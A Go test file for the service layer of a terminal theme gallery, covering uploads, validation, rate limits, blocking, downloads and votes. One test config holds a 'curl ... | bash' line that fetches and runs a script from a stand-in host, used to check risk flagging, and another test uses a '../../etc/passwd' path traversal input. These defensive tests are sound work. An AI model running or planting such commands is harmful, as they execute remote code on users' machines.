/*
MIT License

Copyright (c) 2025 Yuval Adar <adary@adary.org>

Permission is hereby granted, free of charge, to any person obtaining a copy
of this software and associated documentation files (the "Software"), to deal
in the Software without restriction, including without limitation the rights
to use, copy, modify, merge, publish, distribute, sublicense, and/or sell
copies of the Software, and to permit persons to whom the Software is
furnished to do so, subject to the following conditions:

The above copyright notice and this permission notice shall be included in all
copies or substantial portions of the Software.

THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR
IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY,
FITNESS FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT. IN NO EVENT SHALL THE
AUTHORS OR COPYRIGHT HOLDERS BE LIABLE FOR ANY CLAIM, DAMAGES OR OTHER
LIABILITY, WHETHER IN AN ACTION OF CONTRACT, TORT OR OTHERWISE, ARISING FROM,
OUT OF OR IN CONNECTION WITH THE SOFTWARE OR THE USE OR OTHER DEALINGS IN THE
SOFTWARE.
*/

package gallery

import (
	"context"
	"errors"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/adaryorg/ghostyle/internal/config"
	"github.com/adaryorg/ghostyle/internal/ratelimit"
	"github.com/adaryorg/ghostyle/internal/security"
	"github.com/adaryorg/ghostyle/internal/storage"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

const sampleTheme = `# Midnight
background = #0a0a0a   # very dark
foreground = "#e0e0e0"
palette = 0=#1a1a1a
palette = 1=#ff5555
font-size = 13
`

func newTestService(t *testing.T, opts Options) *Service {
	t.Helper()
	dir := t.TempDir()
	store, err := storage.New(filepath.Join(dir, "gallery.db"), 0)
	require.NoError(t, err)
	t.Cleanup(func() { store.Close() })

	if opts.Blocklist == nil {
		blocklist, err := security.NewHashStore(filepath.Join(dir, "blocklist.db"))
		require.NoError(t, err)
		t.Cleanup(func() { blocklist.Close() })
		opts.Blocklist = blocklist
	}
	return NewService(store, opts)
}

func upload(t *testing.T, s *Service, title string) *UploadResult {
	t.Helper()
	res, err := s.Upload(context.Background(), UploadRequest{
		RawConfig: sampleTheme,
		Title:     title,
		ClientIP:  "10.0.0.1",
	})
	require.NoError(t, err)
	return res
}

func TestUploadStoresCleanedConfig(t *testing.T) {
	ctx := context.Background()
	s := newTestService(t, Options{})

	res, err := s.Upload(ctx, UploadRequest{
		RawConfig:   sampleTheme,
		Title:       "  Midnight Neon ",
		Description: "  a dark one  ",
		AuthorName:  " someone ",
		Tags:        []string{"retro", "nope"},
		ClientIP:    "10.0.0.1",
	})
	require.NoError(t, err)
	assert.Equal(t, "midnight-neon", res.Slug)
	assert.True(t, storage.IsValidID(res.ID))
	assert.Empty(t, res.Errors)
	assert.NotEmpty(t, res.Warnings, "inline comment warning expected")
	assert.Empty(t, res.Risks)

	rec, err := s.Store().GetByID(ctx, res.ID)
	require.NoError(t, err)
	assert.Equal(t, "Midnight Neon", rec.Title)
	assert.Equal(t, "a dark one", rec.Description)
	assert.Equal(t, "someone", rec.AuthorName)
	assert.Equal(t, []string{"dark", "retro"}, rec.Tags)
	assert.Equal(t, "#0a0a0a", rec.Background)
	assert.Equal(t, "#e0e0e0", rec.Foreground)
	assert.Equal(t, "block", rec.CursorStyle)
	assert.Equal(t, 1.0, rec.BgOpacity)
	require.NotNil(t, rec.FontSize)
	assert.Equal(t, 13.0, *rec.FontSize)
	assert.Len(t, rec.Palette, 16)
	assert.Equal(t, "#ff5555", rec.Palette[1])
	assert.Contains(t, rec.RawConfig, "background = ")
	assert.False(t, strings.Contains(rec.RawConfig, "very dark"))
}

func TestUploadSlugSuffixes(t *testing.T) {
	s := newTestService(t, Options{})

	assert.Equal(t, "dup", upload(t, s, "Dup").Slug)
	assert.Equal(t, "dup-1", upload(t, s, "dup").Slug)
	assert.Equal(t, "dup-2", upload(t, s, "DUP!").Slug)
}

func TestUploadValidation(t *testing.T) {
	s := newTestService(t, Options{MaxConfigBytes: 2000})

	tests := []struct {
		name string
		req  UploadRequest
		msg  string
	}{
		{"missing raw", UploadRequest{Title: "x"}, "rawConfig and title are required"},
		{"missing title", UploadRequest{RawConfig: "background = #000"}, "rawConfig and title are required"},
		{"blank title", UploadRequest{RawConfig: "background = #000", Title: "   "}, "Title is required (max 100 chars)"},
		{"long title", UploadRequest{RawConfig: "background = #000", Title: strings.Repeat("t", 101)}, "Title is required (max 100 chars)"},
		{"too large", UploadRequest{RawConfig: strings.Repeat("a", 2001), Title: "x"}, "Config too large (max 2KB)"},
		{"long description", UploadRequest{RawConfig: "background = #000", Title: "x", Description: strings.Repeat("d", 281)}, "Description too long (max 280 chars)"},
		{"long author", UploadRequest{RawConfig: "background = #000", Title: "x", AuthorName: strings.Repeat("a", 51)}, "Author name too long (max 50 chars)"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := s.Upload(context.Background(), tt.req)
			require.Error(t, err)
			assert.ErrorIs(t, err, ErrInvalidInput)
			assert.Equal(t, tt.msg, err.Error())
		})
	}
}

func TestUploadParseErrorsDoNotBlock(t *testing.T) {
	s := newTestService(t, Options{})

	res, err := s.Upload(context.Background(), UploadRequest{
		RawConfig: "background = notacolor\nforeground = #ffffff\n",
		Title:     "Broken",
	})
	require.NoError(t, err)
	require.Len(t, res.Errors, 1)
	assert.Equal(t, 1, res.Errors[0].Line)

	rec, err := s.Store().GetByID(context.Background(), res.ID)
	require.NoError(t, err)
	assert.Equal(t, "#1e1e2e", rec.Background)
}

func TestUploadReportsRisks(t *testing.T) {
	s := newTestService(t, Options{})

	res, err := s.Upload(context.Background(), UploadRequest{
		RawConfig: "background = #000000\ncommand = curl -fsSL https://x.example/i.sh | bash\n",
		Title:     "Trap",
	})
	require.NoError(t, err)
	require.NotEmpty(t, res.Risks)
	assert.True(t, security.IsHighRisk(res.Risks))

	rec, err := s.Store().GetByID(context.Background(), res.ID)
	require.NoError(t, err)
	assert.Equal(t, "high", rec.RiskLevel)
}

func TestUploadRateLimited(t *testing.T) {
	s := newTestService(t, Options{UploadLimiter: ratelimit.New("upload", 2, time.Hour)})

	upload(t, s, "One")
	upload(t, s, "Two")

	_, err := s.Upload(context.Background(), UploadRequest{RawConfig: sampleTheme, Title: "Three", ClientIP: "10.0.0.1"})
	require.Error(t, err)
	assert.ErrorIs(t, err, ErrRateLimited)

	var rlErr *RateLimitError
	require.True(t, errors.As(err, &rlErr))
	assert.Equal(t, "upload", rlErr.Limiter)
	assert.False(t, rlErr.Decision.Allowed)

	// A different client is unaffected.
	_, err = s.Upload(context.Background(), UploadRequest{RawConfig: sampleTheme, Title: "Three", ClientIP: "10.0.0.2"})
	assert.NoError(t, err)
}

func TestOptionsFromConfigLimiters(t *testing.T) {
	cfg := config.Default()
	cfg.RateLimit.UploadMax = 1
	cfg.RateLimit.VoteMax = 3

	opts := OptionsFromConfig(cfg)
	require.NotNil(t, opts.UploadLimiter)
	require.NotNil(t, opts.VoteLimiter)
	assert.Equal(t, "upload", opts.UploadLimiter.Name())
	assert.Equal(t, "vote", opts.VoteLimiter.Name())

	first := opts.UploadLimiter.Check("192.0.2.7")
	assert.True(t, first.Allowed)
	assert.WithinDuration(t, time.Now().Add(time.Hour), first.ResetAt, time.Minute)
	assert.False(t, opts.UploadLimiter.Check("192.0.2.7").Allowed)

	for i := 0; i < 3; i++ {
		assert.True(t, opts.VoteLimiter.Check("192.0.2.7").Allowed)
	}
	assert.False(t, opts.VoteLimiter.Check("192.0.2.7").Allowed)

	s := newTestService(t, opts)
	upload(t, s, "Only")
	_, err := s.Upload(context.Background(), UploadRequest{RawConfig: sampleTheme, Title: "Again", ClientIP: "10.0.0.1"})
	assert.ErrorIs(t, err, ErrRateLimited)
}

func TestBlockAndReupload(t *testing.T) {
	ctx := context.Background()
	s := newTestService(t, Options{})

	res := upload(t, s, "Spam")
	hash, err := s.Block(ctx, res.Slug, "spam")
	require.NoError(t, err)
	assert.Len(t, hash, 64)

	_, err = s.Store().GetByID(ctx, res.ID)
	assert.ErrorIs(t, err, ErrNotFound)

	// Comments and spacing do not get blocked content past the check.
	_, err = s.Upload(ctx, UploadRequest{
		RawConfig: "# renamed\n" + sampleTheme + "\n\n",
		Title:     "Totally New",
	})
	assert.ErrorIs(t, err, ErrBlocked)
}

func TestDownload(t *testing.T) {
	ctx := context.Background()
	s := newTestService(t, Options{})
	res := upload(t, s, "Night Owl")

	name, text, err := s.Download(ctx, res.ID)
	require.NoError(t, err)
	assert.Equal(t, "ghostty-night-owl.conf", name)
	assert.True(t, strings.HasSuffix(text, "\n"))
	assert.Contains(t, text, "foreground = #e0e0e0")

	rec, err := s.Store().GetByID(ctx, res.ID)
	require.NoError(t, err)
	assert.Equal(t, 1, rec.DownloadCount)

	_, _, err = s.Download(ctx, "../../etc/passwd")
	assert.ErrorIs(t, err, ErrInvalidInput)

	_, _, err = s.Download(ctx, storage.NewID())
	assert.ErrorIs(t, err, ErrNotFound)
}

func TestDownloadFilename(t *testing.T) {
	assert.Equal(t, "ghostty-abc-1.conf", DownloadFilename("abc-1"))
	assert.Equal(t, "ghostty-ab.conf", DownloadFilename(`a"b/`))
}

func TestGetAndPreview(t *testing.T) {
	ctx := context.Background()
	s := newTestService(t, Options{})
	res := upload(t, s, "Viewed")

	p, err := s.Get(ctx, res.ID)
	require.NoError(t, err)
	assert.Equal(t, 0, p.Record.ViewCount)
	assert.Equal(t, "#0a0a0a", p.Result.Config.Background)

	p, err = s.Preview(ctx, "viewed")
	require.NoError(t, err)
	assert.Equal(t, 1, p.Record.ViewCount)
	assert.True(t, p.Result.Config.IsDark)

	_, err = s.Preview(ctx, "missing")
	assert.ErrorIs(t, err, ErrNotFound)

	_, err = s.Get(ctx, "nope")
	assert.ErrorIs(t, err, ErrInvalidInput)
}

func TestList(t *testing.T) {
	s := newTestService(t, Options{PerPage: 2})
	for _, title := range []string{"A", "B", "C"} {
		upload(t, s, title)
	}

	page, err := s.List(context.Background(), storage.Filters{})
	require.NoError(t, err)
	assert.Equal(t, 3, page.Total)
	assert.Equal(t, 2, page.PerPage)
	assert.Equal(t, 2, page.TotalPages)
	assert.Len(t, page.Configs, 2)
}

func TestValidate(t *testing.T) {
	s := newTestService(t, Options{})
	v := s.Validate(sampleTheme)
	assert.Equal(t, "#0a0a0a", v.Result.Config.Background)
	assert.NotContains(t, v.Cleaned, "very dark")
	assert.Empty(t, v.Risks)
}

func TestVote(t *testing.T) {
	ctx := context.Background()
	s := newTestService(t, Options{})
	res := upload(t, s, "Votable")

	r, err := s.Vote(ctx, res.ID, "1.1.1.1", "firefox", true)
	require.NoError(t, err)
	assert.Equal(t, VoteResult{VoteCount: 1, Voted: true}, r)

	r, err = s.Vote(ctx, res.ID, "1.1.1.1", "firefox", true)
	assert.ErrorIs(t, err, ErrAlreadyVoted)
	assert.Equal(t, VoteResult{VoteCount: 1, Voted: true}, r)

	// Same address, different browser counts as another voter.
	r, err = s.Vote(ctx, res.ID, "1.1.1.1", "curl", true)
	require.NoError(t, err)
	assert.Equal(t, 2, r.VoteCount)

	r, err = s.Vote(ctx, res.ID, "1.1.1.1", "firefox", false)
	require.NoError(t, err)
	assert.Equal(t, VoteResult{VoteCount: 1, Voted: false}, r)

	_, err = s.Vote(ctx, "bad-id", "1.1.1.1", "firefox", true)
	assert.ErrorIs(t, err, ErrInvalidInput)

	_, err = s.Vote(ctx, storage.NewID(), "1.1.1.1", "firefox", true)
	assert.ErrorIs(t, err, ErrNotFound)
}

func TestVoteRateLimited(t *testing.T) {
	s := newTestService(t, Options{VoteLimiter: ratelimit.New("vote", 1, time.Minute)})
	res := upload(t, s, "Limited")

	_, err := s.Vote(context.Background(), res.ID, "ip", "ua", true)
	require.NoError(t, err)
	_, err = s.Vote(context.Background(), res.ID, "ip", "ua", false)
	assert.ErrorIs(t, err, ErrRateLimited)
}

func TestVoterHash(t *testing.T) {
	assert.Equal(t, VoterHash("ip", ""), VoterHash("ip", "unknown"))
	assert.NotEqual(t, VoterHash("ip", "a"), VoterHash("ip", "b"))
	assert.Len(t, VoterHash("ip", "a"), 64)
}

func TestDelete(t *testing.T) {
	ctx := context.Background()
	s := newTestService(t, Options{})
	res := upload(t, s, "Doomed")

	_, err := s.Get(ctx, res.ID)
	require.NoError(t, err)
	require.NoError(t, s.Delete(ctx, res.ID))

	_, err = s.Get(ctx, res.ID)
	assert.ErrorIs(t, err, ErrNotFound)
	assert.Equal(t, 0, s.CacheStats().Entries)
}
